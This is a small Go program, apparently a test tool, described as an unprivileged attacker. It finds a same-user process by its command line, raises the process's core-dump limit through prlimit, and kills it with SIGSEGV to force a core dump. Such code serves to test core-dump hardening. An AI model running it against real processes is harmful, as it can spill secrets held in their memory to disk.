// Command coredumper is an attacker without any capability: it looks for a process of the
// same user with a given command line, raises its limit of core files, which takes no
// more than the same ids (prlimit(2)), and ends it by a signal that makes one.
//
//	coredumper 'sleep 4711'
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	fmt.Println("looking")
	for end := time.Now().Add(time.Minute); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		if pid := find(os.Args[1]); pid > 0 {
			dump(pid)
			return
		}
	}
	fmt.Println("nobody is called that")
}

func find(command string) int {
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range dirs {
		b, _ := os.ReadFile(dir + "/cmdline")
		if strings.TrimSuffix(strings.ReplaceAll(string(b), "\x00", " "), " ") == command {
			pid, _ := strconv.Atoi(filepath.Base(dir))
			return pid
		}
	}
	return 0
}

func dump(pid int) {
	var limit unix.Rlimit
	err := unix.Prlimit(pid, unix.RLIMIT_CORE, nil, &limit)
	fmt.Println("its limit is", limit.Cur, limit.Max, err)
	limit.Cur = limit.Max
	fmt.Println("raised:", unix.Prlimit(pid, unix.RLIMIT_CORE, &limit, nil))
	limit.Max = unix.RLIM_INFINITY
	fmt.Println("beyond:", unix.Prlimit(pid, unix.RLIMIT_CORE, &limit, nil))
	fmt.Println("ended:", unix.Kill(pid, unix.SIGSEGV))
}
